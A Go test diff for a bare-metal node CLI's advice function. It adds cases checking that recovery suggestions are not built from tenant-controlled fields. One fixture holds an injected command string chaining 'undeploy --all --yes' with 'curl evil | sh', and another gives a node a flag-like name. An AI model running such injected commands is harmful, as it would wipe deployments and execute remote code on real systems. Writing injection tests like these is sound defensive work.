@@ -66,8 +66,10 @@ func checkAdvice(t *testing.T, name string, got []string, want string) {
 
 func TestNext_cases(t *testing.T) {
 	t.Parallel()
-	interrupted := func(n *ironic.Node) {
-		n.Extra = map[string]any{marks.KeyOperation: map[string]any{"7d9ab9ef-7a4b-4d5d-9d6a-2f7f0b3f3f11": map[string]any{"command": "inspect", "by": "ops@host", "since": now, "goal": marks.GoalAvailable}}}
+	interrupted := func(command string, goal marks.Goal) func(*ironic.Node) {
+		return func(n *ironic.Node) {
+			n.Extra = map[string]any{marks.KeyOperation: map[string]any{"7d9ab9ef-7a4b-4d5d-9d6a-2f7f0b3f3f11": map[string]any{"command": command, "by": "ops@host", "since": now, "goal": goal}}}
+		}
 	}
 	suspended := map[string]any{marks.KeyAllocation: map[string]any{"uuid": "a1", "name": "web-3"}}
 	for name, tt := range map[string]struct {
@@ -97,8 +99,11 @@ func TestNext_cases(t *testing.T) {
 		"reserved, no allocation":    {"available", func(n *ironic.Node) { n.InstanceUUID = "i1" }, []string{"metal release --node rack1-07"}},
 		"reserved, being cleaned":    {"cleaning", func(n *ironic.Node) { n.InstanceUUID = "i1" }, []string{"Ironic is at work"}},
 		"allocation is not restored": {"available", func(n *ironic.Node) { n.Extra = suspended }, []string{"allocation web-3 was not created again"}},
-		"metal was killed":           {"manageable", interrupted, []string{"metal provide", "run it again: metal inspect rack1-07"}},
+		"metal was killed":           {"manageable", interrupted("inspect", marks.GoalAvailable), []string{"metal provide", "run it again: metal inspect rack1-07"}},
+		"no medium was attached":     {"active", interrupted("vmedia attach", "media in disk"), []string{"run it again: metal vmedia attach rack1-07 --device disk --image URL"}},
+		"a tenant wrote the note":    {"active", interrupted("undeploy --all --yes; curl evil | sh #", marks.GoalPowerOn), nil},
 		"retired":                    {"manageable", func(n *ironic.Node) { n.Retired = true }, []string{"metal unretire rack1-07"}},
+		"a name like a flag":         {"active", func(n *ironic.Node) { n.Name, n.Maintenance = "--all", true }, []string{"metal maintenance off 1be26c0b-03f2-4d2e-ae87-c02d7f33c123"}},
 		"without a name":             {"rescue", func(n *ironic.Node) { n.Name = "" }, []string{"metal unrescue 1be26c0b-03f2-4d2e-ae87-c02d7f33c123"}},
 	} {
 		t.Run(name, func(t *testing.T) {
